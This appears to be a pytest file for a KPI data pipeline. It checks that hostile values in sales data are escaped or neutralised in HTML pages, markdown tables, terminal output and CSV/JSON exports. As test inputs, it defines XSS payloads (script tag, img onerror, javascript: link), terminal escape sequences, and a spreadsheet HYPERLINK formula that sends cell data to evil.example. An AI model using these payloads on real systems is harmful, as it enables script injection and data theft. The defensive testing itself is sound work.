"""Texts of data are texts wherever they are shown: no page runs them, no spreadsheet computes them, no terminal obeys."""

from __future__ import annotations

import re

import polars as pl
import pytest

from kpi_pipeline.checks.result import CheckResult
from kpi_pipeline.cli.rows import fit_for_spreadsheets
from kpi_pipeline.markdown import markdown_cell, plain
from kpi_pipeline.orchestration.checks import _sample
from tests.project import NOW, SALES_HEADER, Shop, csv, sales

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"
LINK = "[here](javascript:alert(3)) | ![](https://evil.example/x.png)"
ESCAPE = "\x1b]0;owned\x07\x1b[31mred"
FORMULA = "=HYPERLINK('https://evil.example?'&A1)"


def test_hostile_names_of_segments_and_values_of_failing_rows(shop: Shop) -> None:
    names = [SCRIPT, IMAGE, LINK, ESCAPE, FORMULA]
    rows = [f'I9{at},c1,2024-01-0{at + 1} 10:00:00,"{name}",1,{5.0 + at}' for at, name in enumerate(names)]
    rows += [f'"{SCRIPT}",c1,2024-01-05 10:00:00,Spain,1,-4', f"I99,c1,2024-01-05 10:00:00,Spain,{FORMULA},4"]
    shop.write("data/sales/odd.csv", csv(SALES_HEADER, [*sales(range(1), first_invoice=500), *rows]))
    shop.edit(
        "definitions/sources.yaml", "severity: warn, name: price_not", "severity: warn, name: price_above_zero_not"
    )
    assert shop.kpi("run").code == 0
    pages = [*shop.root.glob("out/**/*.html"), *shop.root.glob("out/**/*.svg")]
    assert len(pages) > 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert SCRIPT not in text, page
        assert IMAGE not in text, page
        assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", text, re.IGNORECASE), page
    assert SCRIPT in shop.ask("SELECT label FROM segment")["label"].to_list()

    told = shop.kpi("query", "revenue", "--by", "country")
    shown = told.out + shop.kpi("report", "weekly_revenue", "--markdown").out + shop.kpi("show", "weekly_revenue").out
    assert "\x1b" not in shown
    assert "\x07" not in shown
    assert "'=HYPERLINK" in shop.kpi("query", "revenue", "--by", "country", "--format", "csv").out
    assert '"=HYPERLINK' in shop.kpi("query", "revenue", "--by", "country", "--format", "json").out
    assert ",'=HYPERLINK" in shop.kpi("quarantine", "sales", "--csv").out


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1"])
def test_texts_that_spreadsheets_compute(text: str) -> None:
    frame = pl.DataFrame({"name": [text, "Köln", None], "value": [-1.5, 2.0, None]})
    assert fit_for_spreadsheets(frame).to_dict(as_series=False) == {
        "name": ["'" + text, "Köln", None],
        "value": [-1.5, 2.0, None],
    }


@pytest.mark.parametrize("text", [SCRIPT, IMAGE, LINK, "a\\|b", "`x`\n# y"])
def test_cell_of_a_markdown_table_is_one_cell_without_markup(text: str) -> None:
    cell = markdown_cell(plain(text))
    assert not re.search(r"(?<!\\)(?:\\\\)*[|<>\[\]`#]", cell), cell
    assert "\n" not in cell


def test_sample_of_a_check_in_dagster() -> None:
    sample = ({"name": f"{SCRIPT} | {LINK}"},)
    failed = CheckResult(
        "raw/sales",
        "c",
        "error",
        passed=False,
        observed="o",
        expected="e",
        failing_rows=1,
        checked_at=NOW,
        sample=sample,
    )
    table = _sample([failed])["sample"].value
    assert SCRIPT not in table
    assert not re.search(r"(?<!\\)\]\(", table)
